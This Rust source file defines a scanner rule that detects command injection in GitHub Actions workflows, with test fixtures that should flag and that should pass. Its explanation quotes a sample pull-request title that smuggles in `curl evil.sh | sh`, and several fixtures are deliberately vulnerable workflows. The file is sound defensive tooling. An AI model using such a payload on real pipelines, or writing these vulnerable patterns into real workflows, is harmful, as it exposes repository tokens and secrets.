//! GHA002: attacker-controlled `${{ github.event... }}` text inside a script.

use super::{block, expressions, is_workflow, lines, value_of};
use crate::lang::Lang::*;
use crate::rules::{fx, CodeRuleMeta};
use crate::unit::Unit;
use airlock_protocol::{Category, Decision, Finding, Severity, Span};

pub static META: CodeRuleMeta = CodeRuleMeta {
    code: "GHA002",
    name: "workflow-expression-injection",
    category: Category::CodeVulnerability,
    severity: Severity::High,
    decision: Decision::Deny,
    langs: &[Yaml],
    summary: "A `run:` script (or `actions/github-script` `script:`) interpolates text an outsider controls: issue and \
              pull request titles and bodies, comments, commit messages, branch names (`github.head_ref`), author \
              names; or `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` re-enables the `set-env`/`add-path` commands.",
    why: "Expressions are pasted into the script before the shell sees it: a pull request titled \
          `x\"; curl evil.sh | sh; echo \"` runs that command with the workflow's token and secrets.",
    example: "- run: echo \"${{ github.event.issue.title }}\"",
    instead: "Pass the value through an environment variable and quote it: \
              `env: TITLE: ${{ github.event.issue.title }}` then `run: echo \"$TITLE\"`.",
    references: &["CWE-78", "CWE-94"],
    flags: &[
        fx(Yaml, "on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n"),
        fx(Yaml, "on: pull_request\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          git checkout ${{ github.head_ref }}\n          make\n"),
        fx(Yaml, "on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const t = '${{ github.event.issue.title }}';\n"),
        fx(Yaml, "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    env:\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n    steps:\n      - run: make\n"),
    ],
    passes: &[
        fx(Yaml, "on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo \"$TITLE\"\n"),
        fx(Yaml, "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.sha }} ${{ github.event.pull_request.number }}\n"),
        fx(Yaml, "on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: someone/other-action@v1\n        with:\n          script: ${{ github.event.issue.title }}\n"),
    ],
};

/// Contexts whose text an outsider chooses.
pub(crate) fn tainted(expr: &str) -> bool {
    let e = expr.replace(' ', "");
    if e.contains("github.head_ref") {
        return true;
    }
    let fields = [
        ".title", ".body", ".message", ".head_ref", ".label", ".page_name", ".head_branch", ".default_branch",
        ".email", ".name", ".ref",
    ];
    (e.contains("github.event.") || e.contains("github.event[")) && fields.iter().any(|f| e.contains(f))
        && !e.contains(".base.ref")
}

/// The step holding line `i` uses `actions/github-script` (whose `script:` is JavaScript).
fn in_github_script(all: &[super::Line<'_>], i: usize) -> bool {
    let Some(line) = all.get(i) else { return false };
    // Look back, then forward, through the step's lines (more indented than its `- ` line).
    let mut step_indent = line.indent;
    for l in all[..=i].iter().rev() {
        let t = l.text.trim_start();
        if value_of(l.text, "uses").is_some_and(|u| u.contains("actions/github-script")) {
            return true;
        }
        if t.starts_with("- ") && l.indent < line.indent {
            step_indent = l.indent;
            break;
        }
    }
    all[i..]
        .iter()
        .skip(1)
        .take_while(|l| l.text.trim().is_empty() || l.indent > step_indent)
        .any(|l| value_of(l.text, "uses").is_some_and(|u| u.contains("actions/github-script")))
}

/// Prefilter triggers: reads only the raw text.
pub(crate) const TRIGGERS: Option<&[&str]> = Some(&[]);

pub fn check(unit: &Unit<'_>, meta: &CodeRuleMeta, out: &mut Vec<Finding>) {
    if !is_workflow(unit) {
        return;
    }
    let all = lines(unit.text);
    for (i, l) in all.iter().enumerate() {
        // Deprecated `set-env`/`add-path` commands re-enabled: any printed line can set the environment.
        if value_of(l.text, "ACTIONS_ALLOW_UNSECURE_COMMANDS").is_some_and(|v| v.trim_matches(['"', '\'']).eq_ignore_ascii_case("true")) {
            let span = Span::new(l.offset + l.indent, l.offset + l.text.len());
            out.push(meta.finding(unit, span, "`ACTIONS_ALLOW_UNSECURE_COMMANDS` re-enables `set-env` and `add-path`: output an outsider influences can set the job's environment".into()));
            continue;
        }
        let key = if value_of(l.text, "run").is_some() {
            "run"
        } else if value_of(l.text, "script").is_some() && in_github_script(&all, i) {
            "script"
        } else {
            continue;
        };
        // Findings start at the `run:`/`script:` key, where a reviewer reads the script from.
        let key_at = l.offset + l.indent;
        for (offset, text) in block(&all, i, key) {
            for (at, expr) in expressions(text) {
                if tainted(expr) {
                    let start = offset + at;
                    let len = text.get(at..).and_then(|t| t.find("}}")).map_or(expr.len() + 6, |e| e + 2);
                    let span = Span::new(key_at.min(start), start + len);
                    out.push(meta.finding(unit, span, format!("the script interpolates `${{{{ {expr} }}}}`, text an outsider controls: command injection")));
                }
            }
        }
    }
}
